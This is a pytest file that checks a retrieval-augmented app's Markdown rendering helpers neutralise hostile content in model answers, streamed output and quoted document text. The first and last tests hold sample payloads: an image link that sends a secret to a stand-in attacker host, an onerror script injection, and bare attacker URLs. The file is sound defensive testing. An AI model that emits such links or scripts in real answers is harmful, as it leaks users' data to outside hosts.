"""Hostile Markdown through the output helpers (`rag.views.markdown`) the pages render with.

Every snippet of `tests/injection.NASTY`, and the whole injection document, must render
inert: no element but text formatting, no attribute that loads or links, no bare URL
a GFM renderer would autolink. Checked for complete answers (`safe_markdown`), for
answers arriving in pieces (`SafeMarkdownStream`, every prefix as Streamlit shows it),
and for document text shown literally (`escape_markdown`, `highlight`).
"""

from __future__ import annotations

import random

import pytest

from rag.views.markdown import SafeMarkdownStream, escape_markdown, highlight, safe_markdown
from tests.fixtures.inert import live_parts, render
from tests.fixtures.injection import EVIL_HOST, INJECTION_MD, NASTY, SECRET

CASES = [*NASTY, INJECTION_MD, "\n\n".join(NASTY), " ".join(NASTY)]


def test_the_checker_sees_live_markdown() -> None:
    # Without the helpers these are live: the checks below would catch a regression.
    assert live_parts(f"![x](http://{EVIL_HOST}/?q={SECRET})")
    assert live_parts("<img src=x onerror=alert(1)>")
    assert live_parts(f"see http://{EVIL_HOST}/x")
    assert live_parts(f"<http://{EVIL_HOST}>")
    assert not live_parts("**bold**, `code <img src=x>`, a list:\n\n- one\n- two")


@pytest.mark.parametrize("text", CASES, ids=range(len(CASES)))
def test_safe_markdown_is_inert(text: str) -> None:
    out = safe_markdown(text)
    assert live_parts(out) == [], (text, out, render(out))


@pytest.mark.parametrize("text", CASES, ids=range(len(CASES)))
def test_streamed_answer_is_inert_at_every_step(text: str) -> None:
    rng = random.Random(len(text))
    for _ in range(3):
        stream = SafeMarkdownStream()
        shown = ""
        i = 0
        while i < len(text):
            n = rng.randint(1, 12)
            shown += stream.feed(text[i : i + n])
            i += n
            assert live_parts(shown) == [], (text, shown)
        shown += stream.flush()
        assert live_parts(shown) == [], (text, shown)


@pytest.mark.parametrize("text", CASES, ids=range(len(CASES)))
def test_literal_text_is_inert(text: str) -> None:
    assert live_parts(escape_markdown(text)) == []
    assert live_parts(escape_markdown(text, fold=False)) == []
    assert live_parts(highlight(text, (len(text) // 3, 2 * len(text) // 3))) == []


def test_images_become_text_and_words_survive() -> None:
    text = f"Revenue grew ![chart of revenue](http://{EVIL_HOST}/c.png) a lot."
    out = render(safe_markdown(text))
    assert "Revenue grew" in out and "chart of revenue" in out and "a lot." in out
    out = render(safe_markdown("**Cats** eat *fish* [1].\n\n- one\n- two\n\n`code`"))
    assert "<strong>Cats</strong>" in out and "<li>one</li>" in out and "<code>code</code>" in out
